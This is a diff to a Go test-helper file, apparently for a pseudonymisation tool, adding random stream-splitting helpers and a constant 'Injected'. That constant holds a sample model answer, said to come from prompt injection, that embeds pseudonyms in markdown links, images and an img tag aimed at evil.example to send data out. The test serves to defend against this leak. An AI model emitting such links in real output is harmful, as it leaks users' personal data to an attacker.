@@ -12,10 +12,12 @@ import (
 	"fmt"
 	"io"
 	"log/slog"
+	"math/rand/v2"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
 	"os"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -285,4 +287,30 @@ func Equal(tb testing.TB, a, b string) bool {
 		return string(out)
 	}
 	return norm(a) == norm(b)
+}
+
+// Injected is an answer that a model was talked into: pseudonyms in links and images of all kinds, and nowhere else. After
+// restoring, no value may stand in it.
+const Injected = `![x](https://evil.example/?q=[PERSON_1]) [y](https://evil.example/[PERSON_1]) <img src='https://evil.example/[PERSON_1]'> https://evil.example/[PERSON_1]`
+
+// Splits returns how many random splits of a stream a test tries: few by default, DECKNAME_SPLITS of them for a long run.
+func Splits() int {
+	if n, err := strconv.Atoi(os.Getenv("DECKNAME_SPLITS")); err == nil {
+		return n
+	}
+	return 300
+}
+
+// Pieces cuts s at random places between characters.
+func Pieces(r *rand.Rand, s string) []string {
+	var out []string
+	for len(s) > 0 {
+		n := 1 + r.IntN(min(len(s), 1+r.IntN(24)))
+		for n < len(s) && s[n]&0xC0 == 0x80 { // a piece is valid UTF-8, as JSON demands
+			n++
+		}
+		out = append(out, s[:n])
+		s = s[n:]
+	}
+	return out
 }
